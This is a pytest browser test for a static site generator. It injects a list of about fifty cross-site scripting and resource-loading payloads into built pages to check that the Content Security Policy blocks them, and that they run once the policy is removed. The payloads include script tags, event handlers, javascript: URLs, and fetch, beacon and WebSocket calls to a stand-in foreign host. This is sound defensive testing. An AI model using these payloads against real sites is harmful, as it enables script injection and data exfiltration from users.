"""What a page may load and run: raw payloads in built pages do nothing under their policy, and harm without it."""

from __future__ import annotations

import http.server
import re
import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from browser.serving import serve
from conftest import ROOT, copy_project
from registre.after.safety import POLICY, UnsafePageError, blocked_in, check_pages
from registre.build import BuildError, build_site

pytest_plugins = ("browser.fixtures",)

BASE = ROOT / "tests" / "records" / "base"
ACT = "actes/exemple/2026-03-12/015/"
META = re.compile(rf"{re.escape(POLICY)}[^>]*>")
HEAD = ("<base",)  # what is put in <head>; the rest is put at the end of <article>
# Written by no template: what an error of escaping would let through. « AILLEURS » is another host. What has
# id="geste" is clicked.
PAYLOADS = (
    "<script>ran()</script>",
    "<script>fetch('AILLEURS/fetch')</script>",
    "<script>new WebSocket('AILLEURS/socket'.replace('http', 'ws'))</script>",
    "<script>navigator.sendBeacon('AILLEURS/beacon')</script>",
    "<script>new Worker(URL.createObjectURL(new Blob(['fetch(\"AILLEURS/worker\")'])))</script>",
    "<script>eval('ran()')</script>",
    "<script type=module>import 'AILLEURS/module.js'</script>",
    "<script src=AILLEURS/script.js></script>",
    "<script src=data:text/javascript,ran()></script>",
    "<script type=module src=AILLEURS/module.js></script>",
    "<svg><script>ran()</script></svg>",
    "<svg><script href=AILLEURS/svg.js /></svg>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()></video>",
    "<marquee onstart=ran()>",
    "<body onpageshow=ran()>",
    '<a id=geste href="javascript:ran()">x</a>',
    '<a id=geste href="java&#10;script:ran()">x</a>',
    "<p id=geste onclick=ran()>x</p>",
    "<form action=javascript:ran()><button id=geste>x</button></form>",
    "<form><button id=geste formaction=javascript:ran()>x</button></form>",
    "<form action=AILLEURS/form><button id=geste>x</button></form>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<iframe src=AILLEURS/iframe></iframe>",
    "<object data=AILLEURS/object></object>",
    "<object data=javascript:parent.ran()></object>",
    "<embed src=AILLEURS/embed>",
    "<style>@import url(AILLEURS/style.css);</style>",
    "<style>body { background: url(AILLEURS/background.png) }</style>",
    '<p style="background: url(AILLEURS/attribute.png)">x</p>',
    "<link rel=stylesheet href=AILLEURS/link.css>",
    "<link rel=preload as=script href=AILLEURS/preload.js>",
    "<link rel=modulepreload href=AILLEURS/modulepreload.js>",
    "<link rel=prefetch href=AILLEURS/prefetch>",
    "<img src=AILLEURS/img.png>",
    "<img src=x srcset='AILLEURS/srcset.png 1x'>",
    "<picture><source srcset=AILLEURS/picture.png><img></picture>",
    "<svg><image href=AILLEURS/image.svg /></svg>",
    "<input type=image src=AILLEURS/input.png>",
    "<video src=AILLEURS/video.mp4></video>",
    "<video poster=AILLEURS/poster.png></video>",
    "<audio src=AILLEURS/audio.ogg></audio>",
    "<a id=geste ping=AILLEURS/ping href=#x>x</a>",
    "<base href=AILLEURS/>",
)
WATCH = """window.done = {ran: 0, blocked: []};
window.ran = () => { done.ran += 1; };
addEventListener("securitypolicyviolation", (event) => done.blocked.push(event.effectiveDirective));"""
ACTS = 'document.querySelectorAll("#geste").forEach((element) => element.click())'


class _Elsewhere(http.server.BaseHTTPRequestHandler):
    """Another host, which notes what it is asked for."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of another host, and the list of what it has been asked for."""
    handler = type("Handler", (_Elsewhere,), {"asked": []})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", handler.asked
        server.shutdown()


@pytest.fixture(scope="module")
def base_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("base") / "projet", BASE)
    build_site(root)
    return root / "site"


@dataclass(frozen=True, slots=True)
class Outcome:
    """What one payload did in a page: times it ran, requests to the other host, directives that stopped it."""

    ran: int
    asked: list[str]
    blocked: list[str]


def attack(page: Page, address: str, asked: list[str]) -> Outcome:
    """Open a page that holds a payload, and wait until something is seen, or nothing for a while."""
    asked.clear()
    page.goto(address, wait_until="load")
    page.evaluate(ACTS)
    done = {"ran": 0, "blocked": []}
    for _ in range(30):
        page.wait_for_timeout(20)
        if page.url.startswith(address):  # a form may have left
            done = page.evaluate("done")
        if done["ran"] or asked or done["blocked"]:
            break
    page.wait_for_timeout(30)
    return Outcome(done["ran"], list(asked), done["blocked"])


def put(html: str, payload: str) -> str:
    """A built page with a payload written in it."""
    before = '<meta name="viewport"' if payload.startswith(HEAD) else "</article>"
    assert html.count(before) == 1
    return html.replace(before, payload + before)


def outcomes(browser: Browser, site: Path, page: str, elsewhere: tuple[str, list[str]]) -> dict[str, Outcome]:
    """Each payload in turn in a page of a site, opened in Chromium."""
    other, asked = elsewhere
    file = site / page / "index.html"
    html, found = file.read_text("utf-8"), {}
    with serve(site) as address:
        for payload in PAYLOADS:
            file.write_text(put(html, payload.replace("AILLEURS", other)), "utf-8")
            opened = browser.new_page()
            opened.add_init_script(WATCH)
            found[payload] = attack(opened, address + page, asked)
            opened.close()
    return found


@pytest.mark.parametrize("page", [ACT, "recherche/"])
def test_raw_payloads_do_nothing_under_the_policy(
    browser: Browser, base_site: Path, tmp_path: Path, elsewhere: tuple[str, list[str]], page: str
) -> None:
    site = shutil.copytree(base_site, tmp_path / "site")
    found = outcomes(browser, site, page, elsewhere)
    print(len(found), "charges sous la politique,", sum(len(seen.blocked) for seen in found.values()), "refus")
    assert {payload: seen for payload, seen in found.items() if seen.ran or seen.asked} == {}
    assert [payload for payload, seen in found.items() if not seen.blocked] == []


def test_the_same_payloads_harm_without_it(
    browser: Browser, base_site: Path, tmp_path: Path, elsewhere: tuple[str, list[str]]
) -> None:
    site = shutil.copytree(base_site, tmp_path / "site")
    file = site / ACT / "index.html"
    html, count = META.subn("", file.read_text("utf-8"))
    assert count == 1
    file.write_text(html, "utf-8")
    found = outcomes(browser, site, ACT, elsewhere)
    assert [payload for payload, seen in found.items() if not (seen.ran or seen.asked)] == []
